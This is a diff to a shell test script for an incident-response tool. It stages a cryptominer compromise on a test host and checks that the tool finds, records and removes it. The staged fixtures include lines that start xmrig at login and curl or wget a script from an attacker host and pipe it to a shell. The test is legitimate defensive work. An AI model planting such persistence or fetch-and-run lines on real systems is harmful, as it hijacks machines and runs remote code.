@@ -12,6 +12,8 @@ install_respond
 stage_incident
 miner=(--playbook miner.pb --set "attacker-keys=$ATTACKER_FINGERPRINT")
 work=$scratch
+printf 'PATH=$PATH:/opt/bin\n/usr/local/bin/xmrig -o %s:3333 &\n' "$SERVER" >/etc/profile.d/zz-path.sh
+printf 'umask 022\n(sleep 5; curl -s http://%s/m.sh | sh) &\n' "$SERVER" >>/home/operator/.profile
 
 # ---- questions to the host -------------------------------------------------------
 
@@ -88,7 +90,10 @@ processes=$(processes)
 
 run_respond "${miner[@]}" --dry-run
 same "dry run: changes are pending" 5 $status
+check "dry run: what is seen would be kept" grep -qE '[0-9]+ items of evidence .* would be kept' <<<"$output"
+check "dry run: the miner is among it" grep -qE 'files.json +[0-9]+ files, 1 of them executables' <<<"$output"
 for target in xmrig kdevtmpfsi kthreadd /usr/local/bin/xmrig /tmp/malicious.sh /etc/cron.hourly/malicious \
+	/etc/profile.d/zz-path.sh /home/operator/.profile \
 	/root/.ssh/authorized_keys /var/spool/cron/crontabs/root /etc/ssh/sshd_config 203.0.113.67 \
 	'-*/5 \* \* \* \* wget -qO- http://malicious-site.example/m.sh | bash'; do
 	check "dry run: shows $target" grep -qe "${target//\*\/5/\\*/5}" <<<"$output"
@@ -133,6 +138,9 @@ check "run: authorized_keys is immutable again" grep -q '^....i' <(lsattr /root/
 same "run: authorized_keys has its mode and owner" 600:root:root "$(stat -c %a:%U:%G /root/.ssh/authorized_keys)"
 same "run: only the attacker's cron line is gone" "$(grep -v malicious-site $work/root)" \
 	"$(cat /var/spool/cron/crontabs/root)"
+check_not "run: no login starts it" grep -rqs xmrig /etc/profile.d
+same "run: the operator's .profile has all but the line that leads to the server" "umask 022" \
+	"$(tail -n 1 /home/operator/.profile)"
 same "run: the crontab has its mode, owner and link count" "$(stat -c '%a %u %g %h' $work/root)" \
 	"$(stat -c '%a %u %g %h' /var/spool/cron/crontabs/root)"
 same "run: root cannot log in, in any case" " 8 permitrootlogin no" "$(root_login_settings)"
@@ -147,6 +155,14 @@ not_processes() {
 }
 same "run: the journal says what the dry run said" "$(json 'plan.steps.*.changes.*.summary' <$work/plan | not_processes)" \
 	"$(json 'changes.*.summary' <$work/journal | not_processes)"
+
+check "run: footholds go before what they start, files last" \
+	grep -qE '^footholds kill kill-kin c2 files keys sshd $' <<<"$(json 'changes.*.step' <$work/journal | uniq | tr '\n' ' ')"
+same "run: the evidence has the processes" 1 "$(json 'evidence.*.name' <$work/journal | grep -cx processes.json)"
+check "run: and the miner itself" grep -qx "$xmrig" <<<"$(json 'evidence.*.sha256' <$work/journal)"
+run_respond --report "$run" --format md
+same "run: the report is made" 0 $status
+check "run: it has what was seen and what was done" grep -q 'processes.json' <<<"$output"
 
 # ---- run again -----------------------------------------------------------------------
 
